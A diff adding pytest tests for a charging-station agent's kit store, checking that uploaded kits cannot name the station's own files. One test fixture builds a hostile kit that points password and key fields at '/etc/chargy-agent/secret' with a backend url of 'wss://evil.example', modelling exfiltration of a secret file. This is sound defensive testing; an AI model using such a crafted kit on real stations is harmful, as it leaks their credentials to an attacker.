@@ -12,7 +12,7 @@ from pathlib import Path
 import pytest
 
 from agent.commands.kit.kit_file import load_kit
-from agent.commands.page.kit_store import MOST_BYTES, MOST_FILES, MOST_KITS, KitRefused, KitStore
+from agent.commands.page.kit_store import MOST_BYTES, MOST_FILES, MOST_KITS, KitRefused, KitStore, foreign_files_of_kit
 from agent.commands.page.visit import UploadedFile
 from tests.support.kit_files import KIT, PASSWORD, PIN
 
@@ -151,3 +151,22 @@ def test_old_copies_go(store: KitStore) -> None:
 def test_without_a_folder_of_kits_there_is_none(tmp_path: Path) -> None:
     assert KitStore(tmp_path / "kits", None).names_of_offered_kits() == []
     assert KitStore(tmp_path / "kits", tmp_path / "away").names_of_offered_kits() == []
+
+
+@pytest.mark.parametrize("key", ["backend.password_file", "backend.client_key", "sim.pin_file", "sim.password_file"])
+def test_a_kit_names_no_file_of_the_station(store: KitStore, key: str) -> None:
+    """The agent would send any file that it can read, as a password."""
+    table, name = key.split(".")
+    text = f'[{table}]\n{name} = "/etc/chargy-agent/secret"\nurl = "wss://evil.example"\n'
+    path = store.path_of_kit_copy(upload(store, text.encode()))
+    assert path is not None
+    said = f"{key}: names a file of the station: a kit that is brought to this page has all its files"
+    assert foreign_files_of_kit(path, {}) == [said]
+    assert foreign_files_of_kit(path, {table: {name: "/etc/chargy-agent/another"}}) == [said]
+    assert foreign_files_of_kit(path, {table: {name: "/etc/chargy-agent/secret"}}) == []
+
+
+def test_files_of_the_kit_itself_are_no_foreign_ones(store: KitStore) -> None:
+    path = store.path_of_kit_copy(upload(store, packed(WHOLE)))
+    assert path is not None
+    assert foreign_files_of_kit(path, {}) == []
